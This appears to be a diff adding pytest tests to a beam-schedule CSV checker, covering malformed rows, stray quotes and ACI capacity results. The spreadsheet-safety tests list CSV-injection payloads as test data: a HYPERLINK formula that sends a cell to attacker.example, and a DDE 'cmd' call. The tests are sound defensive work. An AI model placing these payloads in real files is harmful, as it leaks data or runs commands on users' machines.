@@ -8,14 +8,16 @@ cell names its row, column and value; decimal commas refused).
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 import json
 
 import pytest
 
 import engine
+import engine.schedule
 from engine.schedule import (REQUIRED_COLUMNS, RESULT_COLUMNS, ScheduleError, check_schedule,
-                             parse_schedule, run_schedule, schedule_csv)
+                             parse_schedule, run_schedule, schedule_csv, spreadsheet_safe)
 
 HEADER = "mark,units,fc,fy,b,d,As,Mu"
 
@@ -244,3 +246,203 @@ def test_a_malformed_layers_cell_fails_its_row_only():
                             "B-10,us,4000,60000,12,21.5,3.16,250,\n")
     assert "column layers = '1.58x18'" in schedule.rows[0].message
     assert schedule.rows[1].computed
+
+
+# Issue 10 item 3: a decimal comma must never shift cells into other columns.
+ISSUE_HEADER = "mark,units,fc,fy,b,d,As,Mu,dt"
+
+
+def test_a_row_longer_than_the_header_is_refused_not_shifted():
+    # The issue's row: meant As = 1.58 in², Mu = 190 kip·ft, no dt; the decimal comma split
+    # 1,58 into As = 1 and Mu = 58 and pushed 190 into dt. The trailing comma makes 10 cells.
+    schedule = run_schedule(_schedule("B-7,us,4000,60000,14,21.5,1,58,190,",
+                                      "B-8,us,4000,60000,14,21.5,1.58,190,",
+                                      header=ISSUE_HEADER))
+    shifted, meant = schedule.rows
+    assert not shifted.computed and shifted.inputs is None and shifted.ok is None
+    for words in ("row 2 (B-7)", "10 cells", "header has 9 columns", "decimal comma",
+                  "unquoted comma"):
+        assert words in shifted.message, (words, shifted.message)
+    assert meant.inputs == dict(units="us", fc=4000.0, fy=60000.0, b=14.0, d=21.5, As=1.58,
+                                Mu=190.0)
+    # The beam meant fails: φMn = 0.9·1.58·60000·(21.5 − a/2)/12000 with
+    # a = 1.58·60000/(0.85·4000·14) = 1.992 in, 145.8 kip·ft < 190 (ACI 318-19 22.2.2.4.1).
+    assert meant.phiMn == pytest.approx(_phi_mn_yielded(4000, 60000, 14, 21.5, 1.58, 12000),
+                                        rel=1e-12)
+    assert meant.ok is False
+    assert schedule.summary.errors == 1
+
+
+@pytest.mark.parametrize("delimiter, name", [("\t", "tab"), (";", "semicolon")])
+def test_a_longer_row_in_a_pasted_table_names_its_separator(delimiter, name):
+    text = _schedule("B-1,us,4000,60000,12,21.5,3.16,180,x", header=HEADER).replace(",", delimiter)
+    row = run_schedule(text).rows[0]
+    assert not row.computed and "9 cells" in row.message and f"a {name} inside a cell" in row.message
+
+
+def test_a_shorter_row_reads_missing_optional_cells_as_blank_and_names_missing_required_ones():
+    schedule = run_schedule(_schedule("B-1,us,4000,60000,12,21.5,3.16,180",
+                                      "B-2,us,4000,60000,12,21.5",
+                                      header=HEADER + ",dt,spiral"))
+    short_optional, short_required = schedule.rows
+    assert short_optional.computed and short_optional.phiMn == pytest.approx(B101_PHI_MN,
+                                                                             rel=1e-12)
+    assert not short_required.computed
+    for words in ("row 3 (B-2)", "6 cells", "10 columns", "As, Mu"):
+        assert words in short_required.message, (words, short_required.message)
+
+
+# Issue 10 item 8: a malformed row fails alone and is named; the rows after it are read.
+GOOD = "B-101,us,4000,60000,12,21.5,3.16,180"
+
+
+@pytest.mark.parametrize("bad, words", [
+    pytest.param('B-5,us,"4000,60000,12,21.5,3.16,180', ("row 3 (B-5)", "never closed"),
+                 id="quote-never-closed"),
+    pytest.param('B-5,us,4000,"60000,12,21.5,3.16,180', ("row 3 (B-5)", "never closed"),
+                 id="quote-in-a-number-column"),
+    pytest.param('B-5,us,4000,"60"000,12,21.5,3.16,180', ("row 3 (B-5)", "closing quote"),
+                 id="text-after-a-closing-quote"),
+    pytest.param("B-5,us,4000,60000,12,21.5,3.16," + "9" * 200_000,
+                 ("row 3 (B-5)", "131,072 characters"), id="cell-over-the-csv-limit"),
+])
+def test_a_row_that_is_not_csv_fails_alone(bad, words):
+    text = _schedule(GOOD, bad, GOOD.replace("B-101", "B-102"), GOOD.replace("B-101", "B-103"))
+    schedule = run_schedule(text)
+    assert [(row.row, row.mark, row.computed) for row in schedule.rows] == [
+        (2, "B-101", True), (3, "B-5", False), (4, "B-102", True), (5, "B-103", True)]
+    for word in words:
+        assert word in schedule.rows[1].message, (word, schedule.rows[1].message)
+    assert len(schedule.rows[1].message) < 400
+    out = list(csv.DictReader(io.StringIO(schedule_csv(schedule))))
+    assert [row["mark"] for row in out] == ["B-101", "B-5", "B-102", "B-103"]
+
+
+def test_two_stray_quotes_fail_their_own_rows_not_the_rows_between():
+    text = _schedule(GOOD, 'B-2,us,"4000,60000,12,21.5,3.16,180',
+                     GOOD.replace("B-101", "B-3"), GOOD.replace("B-101", "B-4"),
+                     'B-5,us,4000",60000,12,21.5,3.16,180', GOOD.replace("B-101", "B-6"))
+    schedule = run_schedule(text)
+    assert [(row.row, row.mark, row.computed) for row in schedule.rows] == [
+        (2, "B-101", True), (3, "B-2", False), (4, "B-3", True), (5, "B-4", True),
+        (6, "B-5", False), (7, "B-6", True)]
+
+
+def test_a_quoted_line_break_in_a_note_column_is_one_row():
+    schedule = run_schedule(_schedule(GOOD + ',"north bay\nsee drawing S-2"',
+                                      GOOD.replace("B-101", "B-102") + ",",
+                                      header=HEADER + ",note"))
+    assert [(row.row, row.mark, row.computed) for row in schedule.rows] == [
+        (2, "B-101", True), (4, "B-102", True)]  # the note takes lines 2 and 3
+    out = list(csv.DictReader(io.StringIO(schedule_csv(schedule))))
+    assert out[0]["note"] == "north bay\nsee drawing S-2"
+
+
+def test_a_huge_cell_is_quoted_shortened_in_its_message():
+    schedule = run_schedule(_schedule("B-1,us,4000,60000,12,21.5," + "7" * 100_000 + ",180"))
+    message = schedule.rows[0].message
+    assert "column As" in message and "100,000 characters" in message and len(message) < 300
+
+
+def test_line_separators_inside_a_cell_do_not_move_row_numbers():
+    # U+2028 and a form feed are not line breaks in CSV (RFC 4180: CRLF); str.splitlines is.
+    schedule = run_schedule(_schedule("B-1\u2028x,us,4000,60000,12,21.5,3.16,180",
+                                      "B-2\x0c,us,4000,60000,12,21.5,3.16,180", GOOD))
+    assert [row.row for row in schedule.rows] == [2, 3, 4]
+    assert all(row.computed for row in schedule.rows)
+
+
+def test_an_unexpected_error_in_one_rows_check_fails_that_row_only(monkeypatch):
+    # Issue 10 item 1: one row whose check raises must not cost the schedule. The fault is
+    # simulated (the engine's own crash is fixed in the engine); the other rows are computed.
+    real_check = engine.schedule.check
+
+    def faulty(**inputs):
+        if inputs["Mu"] == 20:
+            raise AssertionError("unreachable: N(upper) ≥ 0 by construction")
+        return real_check(**inputs)
+
+    monkeypatch.setattr(engine.schedule, "check", faulty)
+    schedule = run_schedule(_schedule(GOOD, "B-2,us,4000,40000,36,36,0.27,20", GOOD))
+    first, broken, last = schedule.rows
+    assert first.computed and last.computed
+    assert first.phiMn == pytest.approx(B101_PHI_MN, rel=1e-12)
+    assert not broken.computed and broken.message.startswith("row 3 (B-2): internal error in the check")
+    assert "AssertionError" in broken.message and "please report" in broken.message
+    assert schedule.summary.errors == 1 and schedule.summary.rows == 3
+    assert len(list(csv.reader(io.StringIO(schedule_csv(schedule))))) == 4
+
+
+# Issue 10 item 4: results files are safe to open in a spreadsheet. The rule is OWASP's
+# "CSV Injection" guidance: a cell starting with = + - @, tab or carriage return gets a
+# leading single quote, which makes the spreadsheet show it as text.
+HOSTILE = ['=HYPERLINK("http://attacker.example/?x="&A1,"open")', "+cmd|' /C calc'!A0",
+           "-1+1", "@SUM(1+1)", "\tB-1", " =1+1"]
+
+
+@pytest.mark.parametrize("text", HOSTILE + ["\r=1+1", "\n@A1"])
+def test_a_cell_that_a_spreadsheet_would_run_gets_a_quote(text):
+    assert spreadsheet_safe(text) == "'" + text
+    assert spreadsheet_safe("B-1 " + text) == "B-1 " + text  # only the start matters
+
+
+@pytest.mark.parametrize("text", HOSTILE, ids=["equals", "plus-dde", "minus", "at", "tab",
+                                               "space-equals"])
+def test_hostile_marks_unknown_cells_and_headers_are_written_as_text(text):
+    source = io.StringIO()
+    writer = csv.writer(source, lineterminator="\n")
+    writer.writerow(["mark", "units", "fc", "fy", "b", "d", "As", "Mu", "note", text])
+    writer.writerow([text, "us", 4000, 60000, 12, 21.5, 3.16, 180, text, "x"])
+    writer.writerow([text, "us", "bad", 60000, 12, 21.5, 3.16, 180, text, text])
+    schedule = run_schedule(source.getvalue())
+    assert schedule.rows[0].computed and not schedule.rows[1].computed
+    out = list(csv.reader(io.StringIO(schedule_csv(schedule))))
+    header = text.strip()  # header names are read without surrounding spaces and tabs
+    triggers = ("=", "+", "-", "@", "\t", "\r")
+    assert out[0][9] == ("'" + header if header.lstrip(" ")[:1] in triggers else header)
+    for row in out[1:]:
+        assert row[0] == row[8] == "'" + text  # mark and note, as given, behind a quote
+    for row in out:
+        for cell in row:
+            assert cell.startswith("'") or cell.lstrip(" ")[:1] not in triggers, row
+
+
+def test_numbers_stay_numbers_in_the_results_file():
+    # A negative number cannot run as a formula; a user's -2 and the engine's own values
+    # (a negative εt where the extreme layer is in compression) stay numbers.
+    schedule = run_schedule(_schedule("B-101,us,4000,60000,12,21.5,3.16,180,-2,+3.5",
+                                      header=HEADER + ",level,offset"))
+    row = schedule.rows[0]
+    negative = engine.schedule.Schedule(
+        columns=schedule.columns, unknown_columns=schedule.unknown_columns,
+        rows=(dataclasses.replace(row, eps_t=-0.0012, phiMn=-1.5),), summary=schedule.summary)
+    out = list(csv.DictReader(io.StringIO(schedule_csv(negative))))[0]
+    assert (out["level"], out["offset"]) == ("-2", "+3.5")
+    assert (out["eps_t"], out["phiMn"]) == ("-0.0012", "-1.5")
+
+
+def test_a_stray_quote_in_a_note_does_not_swallow_the_rows_to_the_next_one():
+    # The quote opens in row 2's note and a stray one closes at the end of row 4's note: read
+    # naively, rows 3 and 4 would vanish into one note. Whole rows inside a cell mean a stray quote.
+    header = HEADER + ",note"
+    schedule = run_schedule(_schedule(GOOD + ',"see B-3', GOOD.replace("B-101", "B-3") + ",x",
+                                      GOOD.replace("B-101", "B-4") + ',y"',
+                                      GOOD.replace("B-101", "B-5") + ",z", header=header))
+    assert [(row.row, row.mark) for row in schedule.rows][:2] == [(2, "B-101"), (3, "B-3")]
+    assert not schedule.rows[0].computed and "quote" in schedule.rows[0].message
+    assert schedule.rows[1].computed and schedule.rows[-1].mark == "B-5"
+    assert {row.row for row in schedule.rows} == {2, 3, 4, 5}
+
+
+def test_a_stray_quote_closed_in_the_middle_of_a_later_row_swallows_nothing():
+    # Found by the schedule fuzz: a quote opening row 2's note, closed by a quoted cell of row 3
+    # that starts with the separator, leaves a record of exactly the header's width whose last
+    # cells are row 3's: read as one row, row 2 would compute with row 3's As and Mu.
+    header = "mark,units,fc,fy,b,d,note,other,As,Mu"
+    schedule = run_schedule(header + "\n"
+                            'B-1,si,25,500,400,450,"north bay,1,2,3\n'
+                            'B-2,us,4000,60000,12,21.5,level 2,",x",3.16,180\n')
+    assert [(row.row, row.mark, row.computed) for row in schedule.rows] == [
+        (2, "B-1", False), (3, "B-2", True)]
+    assert schedule.rows[1].inputs == dict(units="us", fc=4000.0, fy=60000.0, b=12.0, d=21.5,
+                                           As=3.16, Mu=180.0)
